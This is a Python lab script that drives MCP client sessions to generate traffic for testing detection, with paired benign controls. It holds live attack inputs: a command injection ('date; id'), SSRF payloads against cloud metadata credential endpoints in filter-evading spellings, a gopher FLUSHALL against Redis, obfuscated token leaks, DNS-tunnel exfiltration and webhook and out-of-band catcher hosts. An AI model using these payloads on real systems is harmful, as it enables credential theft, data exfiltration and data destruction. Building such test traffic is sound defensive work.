"""What clients on PyPI `mcp` 1.x send, how much of it and where to: `--play NAME`."""

from __future__ import annotations

import base64
import json
import random
import socket
import string
from contextlib import asynccontextmanager

import anyio
from session_mcp1 import arguments, finish, open_session, recording_client

from lab.wire import Recorder


@asynccontextmanager
async def at_work(options, **callbacks):
    """A session in which the tools are known."""
    recorder = Recorder(options.label)
    async with open_session(recorder, options, **callbacks) as session:
        await session.list_tools()
        yield session, [recorder]


async def call_all(options, calls: list[tuple[str, dict]]) -> list[Recorder]:
    async with at_work(options) as (session, recorders):
        for name, values in calls:
            await session.call_tool(name, values)
    return recorders


async def reads_reports(options, stays: float = 0.2) -> list[Recorder]:
    """Three reports, some time after the list."""
    async with at_work(options) as (session, recorders):
        for name in ("berths", "pilots", "dues"):
            await anyio.sleep(0.4)
            await session.call_tool("fetch_report", {"name": name})
        await anyio.sleep(stays)
    return recorders


async def reads_and_stays(options) -> list[Recorder]:
    return await reads_reports(options, 14)


async def keeps_up(options) -> list[Recorder]:
    """Commands that a tool names, and one behind them that it does not."""
    lines = ("date", "uname -s", "whoami", "date; id")
    return await call_all(options, [("run_upkeep", {"command": line}) for line in lines])


def issued(seed: int, prefix: str, alphabet: str, length: int) -> str:
    """A token in the form of an issuer, invented here so that no file has one in it."""
    source = random.Random(seed)
    return prefix + "".join(source.choice(alphabet) for _ in range(length))


async def tells_secrets(options) -> list[Recorder]:
    """Puts keys into a ticket, as somebody who asks for help in a hurry."""
    forge = issued(5, "ghp" + "_", string.ascii_letters + string.digits, 36)
    cloud = issued(6, "AK" + "IA", string.ascii_uppercase + "234567", 16)
    text = f"Deploy fails. My settings:\nFORGE_TOKEN={forge}\nCLOUD_KEY={cloud}\n"
    return await call_all(options, [("open_ticket", {"title": "deploy", "text": text})])


async def tells_examples(options) -> list[Recorder]:
    """Asks about settings with the keys of the documentation, and with hashes and numbers that are no secrets."""
    text = (
        "Deploy fails. Settings as documented:\nFORGE_TOKEN=ghp_xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx\n"
        "CLOUD_KEY=AKIAIOSFODNN7EXAMPLE\nCLOUD_SECRET=wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY\n"
        "image sha256:2c26b46b68ffc68ff99b453c1d30413413422d706483bfa0f98a5e886266e7ae, commit "
        "e83c5163316f89bfbde7d9ab23ca2e25604af290, run 0b9ee4a6-2f6c-4c4b-8a59-6b6a0f3cbd2e, "
        "integrity sha512-z4PhNX7vuL3xVChQ1m2AB9Yg5AULVxXcg/SpIdNs6c5H0NE8XYXysP+DGNKHfuwvY7kxvUdBeoGlODJ6+SfaPg==, "
        "sk-learn-contrib-imbalanced, hf_hub_download, npm_config_registry, AIzawa\n"
    )
    return await call_all(options, [("open_ticket", {"title": "deploy", "text": text})])


async def hides_secrets(options) -> list[Recorder]:
    """The same keys where a look at the text does not find them: in base64, in another JSON text, with escapes."""
    forge = issued(5, "ghp" + "_", string.ascii_letters + string.digits, 36)
    inner = json.dumps({"settings": {"FORGE_TOKEN": forge}})
    whole = base64.b64encode(f"# settings of the workshop's site\nFORGE_TOKEN={forge}\n".encode()).decode()
    texts = [
        whole,
        base64.b64encode(forge.encode()).decode(),
        json.dumps({"body": inner}),
        forge[:20] + "\u200b" + forge[20:],
    ]
    return await call_all(options, [("open_ticket", {"title": "deploy", "text": text}) for text in texts])


async def shows_pictures(options, key: str) -> list[Recorder]:
    """A client that shows a picture of the server, with a key in its address."""
    looking = Recorder("looking")
    async with at_work(options) as (session, (recorder,)):
        await session.call_tool("read_file", {"path": "README.md"})
        async with recording_client(looking, options) as http:
            await http.get(options.url.replace("/mcp", "/picture"), params={"access_token": key, "size": "small"})
    return [recorder, looking]


async def shows_key(options) -> list[Recorder]:
    return await shows_pictures(options, issued(7, "glpat" + "-", string.ascii_letters + string.digits, 26))


async def shows_example(options) -> list[Recorder]:
    return await shows_pictures(options, "glpat-EXAMPLExxxxxxxxxxxx")


async def read_resources(options, name: str) -> list[Recorder]:
    async with at_work(options) as (session, recorders):
        await session.list_resources()
        await session.read_resource(f"workshop://{name}")
    return recorders


async def reads_settings_resource(options) -> list[Recorder]:
    return await read_resources(options, "settings")


async def reads_manual_resource(options) -> list[Recorder]:
    return await read_resources(options, "manual")


async def reads_settings(options) -> list[Recorder]:
    return await call_all(options, [("read_file", {"path": "README.md"}), ("read_file", {"path": ".env"})])


async def reads_manual(options) -> list[Recorder]:
    return await call_all(options, [("read_file", {"path": "README.md"}), ("read_file", {"path": "docs/settings.md"})])


async def takes_all(options) -> list[Recorder]:
    """A few customers at a time, then all of them."""
    letters = (string.ascii_uppercase * 2)[:34]
    return await call_all(options, [("find_customers", {"letter": letter}) for letter in [*letters, ""]])


async def takes_logs(options) -> list[Recorder]:
    """Logs of a day or of weeks, as the work wants it; the last is the longest."""
    source = random.Random(3)
    days = [max(1, min(50, round(source.lognormvariate(1.6, 1.2)))) for _ in range(34)]
    return await call_all(options, [("export_log", {"days": number}) for number in [*days, 85]])


def prose(seed: int, characters: int) -> str:
    source = random.Random(seed)
    words = "the quay was calm and boats came in with mackerel before noon while rain held off".split()
    text = ""
    while len(text) < characters:
        text += source.choice(words) + " "
    return text[:characters]


async def fills_ticket(options) -> list[Recorder]:
    """Tickets of some lines, then one that holds a file."""
    tickets = [("open_ticket", {"title": "berth", "text": prose(n, 200 + n * 7)}) for n in range(34)]
    return await call_all(options, [*tickets, ("open_ticket", {"title": "berth", "text": prose(99, 40_000)})])


async def saves_documents(options) -> list[Recorder]:
    """Documents of all lengths, and the last is the longest."""
    source = random.Random(4)
    sizes = [max(100, min(30_000, round(source.lognormvariate(7.4, 1.4)))) for _ in range(34)]
    calls = [("save_document", {"name": f"log {n}", "text": prose(n, size)}) for n, size in enumerate([*sizes, 40_000])]
    return await call_all(options, calls)


async def fetches_inside(options) -> list[Recorder]:
    """Has pages fetched that only the server's own network can reach, in the spellings that filters overlook."""
    path = "latest/meta-data/iam/security-credentials/"
    hosts = ["169.254.169.254", "2852039166", "0xa9fea9fe", "0251.0376.0251.0376", "[::ffff:169.254.169.254]"]
    addresses = [f"http://{host}/{path}" for host in hosts]
    addresses += ["http://10.0.0.5:9200/_cat/indices", "http://0x7f.1:6379/", "gopher://127.0.0.1:6379/_FLUSHALL"]
    return await call_all(options, [("fetch_page", {"url": address}) for address in addresses])


async def fetches_outside(options) -> list[Recorder]:
    """Pages of hosts whose names begin with numbers or hold words of the trade, and a question about an address."""
    addresses = [
        "https://2852039166.example/latest/meta-data/",
        "https://10.example/0/0/5",
        "https://0x7f.example/",
        "https://metadata.example/169.254.169.254/latest",
        "https://docs.example/metadata.google.internal",
        "http://198.51.100.7/latest/meta-data/",
        "https://workshop.example/go?to=/10.0.0.5",
        "https://docs.example/rfc/rfc4266#gopher",
    ]
    calls = [("fetch_page", {"url": address}) for address in addresses]
    text = "Is it right that 169.254.169.254 does not answer, and which of 10.0.0.5 and 10.0.0.6 is the index?"
    return await call_all(options, [*calls, ("open_ticket", {"title": "addresses", "text": text})])


async def fetches_disguised(options) -> list[Recorder]:
    """By hand: the same places in spellings that take more to see through. The slashes of the first are written as JSON
    allows; the names are resolved by services that give out any address."""
    recorder = Recorder(options.label)
    headers = {"accept": "application/json, text/event-stream", "mcp-protocol-version": "2025-11-25"}
    hello = {
        "protocolVersion": "2025-11-25",
        "capabilities": {},
        "clientInfo": {"name": "chart-table", "version": "3.2.0"},
    }
    addresses = [
        r"http:\/\/169.254.169.254\/latest\/meta-data\/",
        r"http:\u002f\u002f169.254.169.254/latest/meta-data/",
        "http://[::ffff:a9fe:a9fe]/latest/meta-data/",
        "http://169.254.169.254.nip.io/latest/meta-data/",
        "http://169.254.43518/latest/meta-data/",
        "http://%31%36%39.254.169.254/latest/meta-data/",
        "http://①⑥⑨.②⑤④.①⑥⑨.②⑤④/latest/meta-data/",
        "http://169。254。169。254/latest/meta-data/",
        "169.254.169.254/latest/meta-data/",
        " http://169.254.169.254/latest/meta-data/",
        "http://workshop.example@169.254.169.254/latest/meta-data/",
        "http://workshop.example:80\\\\@169.254.169.254/latest/meta-data/",
    ]
    async with recording_client(recorder, options) as http:

        async def send(text: str) -> object:
            sent = {**headers, "content-type": "application/json"}
            return await http.post(options.url, headers=sent, content=text.encode())

        start = {"jsonrpc": "2.0", "id": 0, "method": "initialize", "params": hello}
        headers["mcp-session-id"] = (await send(json.dumps(start))).headers["mcp-session-id"]
        await send('{"jsonrpc":"2.0","method":"notifications/initialized"}')
        for number, address in enumerate(addresses, 1):
            call = f'{{"name":"fetch_page","arguments":{{"url":"{address}"}}}}'
            await send(f'{{"jsonrpc":"2.0","id":{number},"method":"tools/call","params":{call}}}')
    return [recorder]


async def follows(options) -> list[Recorder]:
    """By hand: comes to where the server was, and follows what it says if that is the server's."""
    recorder = Recorder(options.label)
    headers = {"accept": "application/json, text/event-stream"}
    hello = {
        "protocolVersion": "2025-11-25",
        "capabilities": {},
        "clientInfo": {"name": "chart-table", "version": "3.2.0"},
    }
    body = {"jsonrpc": "2.0", "id": 0, "method": "initialize", "params": hello}
    async with recording_client(recorder, options) as http:
        old = options.url.replace("/mcp", "/old/mcp")
        reply = await http.post(old, headers=headers, json=body)
        if reply.headers["location"].startswith("/"):
            await http.post(options.url, headers=headers, json=body)
    return [recorder]


def look_up(name: str) -> None:
    try:
        socket.getaddrinfo(name, 443, socket.AF_INET)
    except socket.gaierror:
        pass


async def look_up_all(options, names: list[str], slowly: bool = False) -> list[Recorder]:
    """Beside a session: a call, names, and another call."""
    source = random.Random(10)
    async with at_work(options) as (session, recorders):
        await session.call_tool("read_file", {"path": "README.md"})
        for name in names:
            await anyio.to_thread.run_sync(look_up, name)
            await anyio.sleep(source.uniform(0.32, 0.58) if slowly else 0)
        await session.call_tool("read_file", {"path": "CHANGES.md"})
    return recorders


def tunnel(size: int) -> list[str]:
    """Names that hold so many bytes of what is enciphered."""
    text = base64.b32encode(random.Random(8).randbytes(size)).decode().rstrip("=").lower()
    pieces = [text[start : start + 116] for start in range(0, len(text), 116)]
    names = [f"{piece[:58]}.{piece[58:]}.{number:x}.t.drop.example" for number, piece in enumerate(pieces)]
    return [name.replace("..", ".") for name in names]


def pieces(number: int) -> list[str]:
    source = random.Random(9)
    return [f"{source.getrandbits(96):024x}.img.cdn.example" for _ in range(number)]


async def tunnels(options) -> list[Recorder]:
    """A program of the client's machine that sends what it has stolen, enciphered, in the names of hosts."""
    return await look_up_all(options, tunnel(6_000))


async def tunnels_slowly(options) -> list[Recorder]:
    return await look_up_all(options, tunnel(7_200), slowly=True)


async def loads_pieces(options) -> list[Recorder]:
    """A site that keeps its pictures on many hosts of a content network, named by what is in them."""
    return await look_up_all(options, pieces(90))


async def loads_now_and_then(options) -> list[Recorder]:
    return await look_up_all(options, pieces(100), slowly=True)


async def drops(options) -> list[Recorder]:
    """Has events told to a catcher of requests and to a tunnel, and looks up the host of a test of its own."""
    token = "c0f4d6a2-91b7-4c3e-8d25-7a60b9e1f384"
    async with at_work(options) as (session, recorders):
        await session.call_tool("set_webhook", {"event": "saved", "url": f"https://webhook.site/{token}"})
        await session.call_tool("set_webhook", {"event": "opened", "url": "https://quiet-gull.ngrok-free.app/in"})
        await anyio.to_thread.run_sync(look_up, "cq2x7h3k0v.oast.fun")
    return recorders


async def registers(options) -> list[Recorder]:
    """Has events told to hosts of its own whose names resemble those, and asks about one of them in words."""
    hosts = [
        "webhook.site.example",
        "mywebhook.site.example",
        "hooks.example/webhook.site",
        "discord.com/channels/81/92",
    ]
    async with at_work(options) as (session, recorders):
        for host in hosts:
            await session.call_tool("set_webhook", {"event": "saved", "url": f"https://{host}"})
        text = "May we use webhook.site or ngrok for tests, or is there something of our own?"
        await session.call_tool("open_ticket", {"title": "hooks", "text": text})
        for name in ("ngrok-free.app.cdn.example", "oast.cdn.example"):
            await anyio.to_thread.run_sync(look_up, name)
    return recorders


PAUSES = [0.6, 2.6, 0.9, 1.8, 3.1, 0.7, 2.4]


async def days(options, last: str) -> list[Recorder]:
    """The work of twelve days, a day being a second: now and then a file, and a look at pages that everybody looks at. The
    last look is at `last`."""
    recorders = []
    options = type(options)(**{**vars(options), "local_address": "192.0.2.10"})
    for number, pause in enumerate([*PAUSES, 0.0]):
        async with at_work(options) as (session, (recorder,)):
            await session.call_tool("read_file", {"path": f"page-{number}.md"})
        looking = Recorder("looking")
        async with recording_client(looking, options) as http:
            await http.get("http://pages.example:8000/" if pause else last)
        recorders += [recorder, looking]
        await anyio.sleep(pause)
    return recorders


async def goes_elsewhere(options) -> list[Recorder]:
    return await days(options, "http://models.example:8000/collect?from=workshop")


async def goes_as_ever(options) -> list[Recorder]:
    return await days(options, "http://pages.example:8000/new/collection?from=workshop")


async def main() -> None:
    options = arguments()
    finish(options, *await globals()[options.play](options))


anyio.run(main)
